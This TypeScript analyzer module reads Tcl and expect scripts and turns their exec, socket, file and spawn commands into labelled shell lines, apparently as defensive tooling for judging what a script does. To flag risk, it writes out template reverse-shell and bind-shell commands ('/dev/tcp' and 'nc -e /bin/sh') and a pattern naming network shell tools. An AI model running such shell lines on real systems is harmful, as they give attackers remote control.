// Tcl (tclsh, wish) and expect scripts: `exec prog args…` runs a program
// (its `|`, `<`, `>` words are a pipeline and redirects, as in a shell),
// `open "|cmd"` runs one, `open F w` writes F, `socket host port` connects,
// `file delete`, `file rename`, `file copy`, `source F`. expect adds `spawn`
// (a program it then talks to), `system` (a shell line) and `send` — what is
// sent to a spawned shell is what that shell runs. Words built from `$var`
// are only known at run time; `[cmd]` substitutions run their command.
import { type CodeReading, UNKNOWN } from "./code.ts";
import { emptyReading, readLine, writeLine } from "./file-lines.ts";
import { shellQuote } from "./quote.ts";
import { MAX_TCL_DEPTH } from "../../limits.ts";

type Word = { text: string; known: boolean };

/**
 * `sockets`: where the script connects or listens; `runsUnknown`: it runs a command or script only the run knows
 * (`exec $c`, `eval $e`) — with a socket, what it runs is what the other end sends: a reverse or bind shell.
 */
type Context = {
  reading: CodeReading;
  expect: boolean;
  spawnedShell: boolean;
  depth: number;
  sockets: { host?: string; port: string }[];
  runsUnknown: boolean;
};

const SHELLS = /^(?:\/\S*\/)?(?:ba|z|da|k|c|tc|fi)?sh$|^(?:\/\S*\/)?(?:ssh|telnet|nc|su|sudo)$/;

export function readTcl(script: string): CodeReading {
  return readScript(script, false);
}

export function readExpect(script: string): CodeReading {
  return readScript(script, true);
}

function readScript(script: string, expect: boolean): CodeReading {
  const context: Context = { reading: emptyReading(), expect, spawnedShell: false, depth: 0, sockets: [], runsUnknown: false };
  readCommands(script, context);
  if (context.runsUnknown) for (const socket of context.sockets) addLine(context.reading, socketShell(socket), "socket connected to a shell");
  return context.reading;
}

/** The shell line of a socket whose data the script runs: a reverse shell to host:port, or a bind shell on port. */
function socketShell({ host, port }: { host?: string; port: string }): string {
  return host === undefined ? `nc -l -p ${port} -e /bin/sh` : `sh -i >& /dev/tcp/${host}/${port} 0>&1`;
}

function readCommands(script: string, context: Context) {
  if (context.depth > MAX_TCL_DEPTH) {
    context.reading.unresolved.push("Tcl commands nest too deeply to follow");
    return;
  }
  context.depth++;
  for (const command of splitCommands(script)) {
    const words = tokenize(command, context);
    if (words.length > 0) readCommand(words, context);
  }
  context.depth--;
}

function readCommand(words: Word[], context: Context) {
  const [name, ...args] = words;
  const reading = context.reading;
  if (!name?.known) return;
  switch (name.text) {
    case "exec": {
      const command = args.filter((word) => !/^-(?:keepnewline|ignorestderr|-)$/.test(word.text));
      // `exec $c`, or `exec sh -c $line`: a command only the run knows.
      if (command[0] && (!command[0].known || (SHELLS.test(command[0].text) && command.some((word) => !word.known)))) context.runsUnknown = true;
      return addLine(reading, shellLine(command), "exec");
    }
    case "open":
      return readOpen(args, reading);
    case "socket":
      return readSocket(args, context);
    case "file":
      return readFileCommand(args, reading);
    case "source":
      return addLine(reading, readLine(args.at(-1)?.known ? args.at(-1)!.text : ""), "source");
    case "eval":
    case "uplevel":
    case "catch":
    case "if":
    case "while":
    case "for":
    case "foreach":
    case "proc":
    case "after":
      // Their bodies are scripts: read every literal word that may be one.
      for (const word of args) if (word.known && /[\s;]/.test(word.text)) readCommands(word.text, context);
      if ((name.text === "eval" || name.text === "uplevel") && args.some((word) => !word.known)) context.runsUnknown = true;
      return;
  }
  if (!context.expect) return;
  switch (name.text) {
    case "spawn": {
      const command = args.filter((word) => !/^-(?:noecho|console|nottycopy|nottyinit|open|leaveopen|ignore)$/.test(word.text));
      if (command[0]?.known && SHELLS.test(command[0].text)) context.spawnedShell = true;
      return addLine(reading, shellLine(command), "spawn");
    }
    case "system":
      return addLine(reading, args.map((word) => (word.known ? word.text : UNKNOWN)).join(" "), "system");
    case "send":
    case "exp_send":
    case "send_user": {
      const text = args.filter((word) => !/^-(?:-|s|h|raw|null|break|i)$/.test(word.text)).at(-1);
      if (!context.spawnedShell || name.text === "send_user" || !text) return;
      return addLine(reading, text.known ? text.text.replaceAll("\r", "\n") : UNKNOWN, "send");
    }
    case "log_file":
      return addLine(reading, writeLine(args.filter((word) => !word.text.startsWith("-")).at(-1)?.text ?? ""), "log_file");
  }
}

/** `open "|cmd args" r`, `open F w`, `open F`. */
function readOpen(args: Word[], reading: CodeReading) {
  const [file, mode] = args;
  if (!file) return;
  if (file.known && file.text.startsWith("|")) return addLine(reading, file.text.slice(1), "open |");
  const name = file.known ? file.text : "";
  const writes = mode?.known && /[wa+]|WRONLY|RDWR|CREAT/.test(mode.text);
  addLine(reading, writes ? writeLine(name) : readLine(name), "open");
}

/** `socket host port` connects; `socket -server cmd port` listens. */
function readSocket(args: Word[], context: Context) {
  const reading = context.reading;
  const server = args.findIndex((word) => word.text === "-server");
  const plain = args.filter((word, index) => !word.text.startsWith("-") && (server < 0 || index > server + 1));
  if (server >= 0) {
    context.sockets.push({ port: port(plain.at(-1)) });
    // The command a server runs for each client is a script (`socket -server {accept} 4444`).
    const handler = args[server + 1];
    if (handler?.known && /[\s;]/.test(handler.text)) readCommands(handler.text, context);
    return addLine(reading, `nc -l -p ${port(plain.at(-1))}`, "socket -server");
  }
  const [host, service] = plain.slice(-2);
  if (!host || !service) return;
  context.sockets.push({ host: host.known ? shellQuote(host.text) : UNKNOWN, port: port(service) });
  addLine(reading, `nc ${host.known ? shellQuote(host.text) : UNKNOWN} ${port(service)}`, "socket");
}

function port(word: Word | undefined): string {
  return word?.known ? shellQuote(word.text) : UNKNOWN;
}

/** `file delete -force x`, `file rename a b`, `file copy a b`. */
function readFileCommand(args: Word[], reading: CodeReading) {
  const [sub, ...rest] = args;
  const operands = rest.filter((word) => !word.text.startsWith("-")).map((word) => (word.known ? shellQuote(word.text) : UNKNOWN));
  if (sub?.text === "delete" && operands.length > 0) addLine(reading, `rm ${rest.some((word) => word.text === "-force") ? "-r -f " : ""}-- ${operands.join(" ")}`, "file delete");
  else if (sub?.text === "rename" && operands.length >= 2) addLine(reading, `mv -- ${operands.join(" ")}`, "file rename");
  else if (sub?.text === "copy" && operands.length >= 2) addLine(reading, `cp -r -- ${operands.join(" ")}`, "file copy");
}

/** exec's words as a shell line: `|`, `<`, `>`, `2>`, `&` stay operators; other words are quoted. */
function shellLine(words: Word[]): string {
  return words.map((word) => (!word.known ? UNKNOWN : /^(?:\||\|&|<|>|>>|2>|2>>|>&|&|<<|<@|>@)$/.test(word.text) ? word.text : shellQuote(word.text))).join(" ");
}

function addLine(reading: CodeReading, line: string, label: string) {
  if (line.trim() !== "") reading.lines.push({ line, label });
}

// ---------------------------------------------------------------------------
// Reading Tcl: commands end at a newline or `;` outside braces, brackets and quotes.

function splitCommands(script: string): string[] {
  const commands: string[] = [];
  let start = 0;
  let braces = 0;
  let brackets = 0;
  let quoted = false;
  for (let index = 0; index < script.length; index++) {
    const char = script[index]!;
    if (char === "\\") index++;
    else if (char === "{" && !quoted) braces++;
    else if (char === "}" && !quoted && braces > 0) braces--;
    else if (braces > 0) continue;
    else if (char === "[") brackets++;
    else if (char === "]" && brackets > 0) brackets--;
    else if (char === '"' && brackets === 0) quoted = !quoted;
    else if ((char === "\n" || char === ";") && !quoted && brackets === 0) {
      commands.push(script.slice(start, index));
      start = index + 1;
    }
  }
  commands.push(script.slice(start));
  return commands.map((command) => command.trim()).filter((command) => command !== "" && !command.startsWith("#"));
}

/** The words of one command; `[…]` inside them are commands too, read as they are found. */
function tokenize(command: string, context: Context): Word[] {
  const words: Word[] = [];
  let index = 0;
  while (index < command.length) {
    while (index < command.length && /\s/.test(command[index]!)) index++;
    if (index >= command.length) break;
    const start = index;
    if (command[index] === "{") {
      index = balanced(command, index, "{", "}");
      words.push({ text: command.slice(start + 1, index - 1), known: true });
      continue;
    }
    const quoted = command[index] === '"';
    if (quoted) index++;
    let text = "";
    let known = true;
    while (index < command.length && (quoted ? command[index] !== '"' : !/\s/.test(command[index]!))) {
      const char = command[index]!;
      if (char === "\\" && index + 1 < command.length) {
        text += ({ n: "\n", r: "\r", t: "\t" } as Record<string, string>)[command[index + 1]!] ?? command[index + 1];
        index += 2;
      } else if (char === "[") {
        const end = balanced(command, index, "[", "]");
        readCommands(command.slice(index + 1, end - 1), context);
        known = false;
        index = end;
      } else if (char === "$" && /[\w{:]/.test(command[index + 1] ?? "")) {
        known = false;
        index = command[index + 1] === "{" ? balanced(command, index + 1, "{", "}") : index + 1 + /^[\w:]*/.exec(command.slice(index + 1))![0].length;
      } else {
        text += char;
        index++;
      }
    }
    if (quoted) index++;
    words.push({ text, known });
  }
  return words;
}

/** The index after the closing character of the group opening at `open`. */
function balanced(text: string, open: number, opener: string, closer: string): number {
  let depth = 0;
  for (let index = open; index < text.length; index++) {
    const char = text[index]!;
    if (char === "\\") index++;
    else if (char === opener) depth++;
    else if (char === closer && --depth === 0) return index + 1;
  }
  return text.length;
}
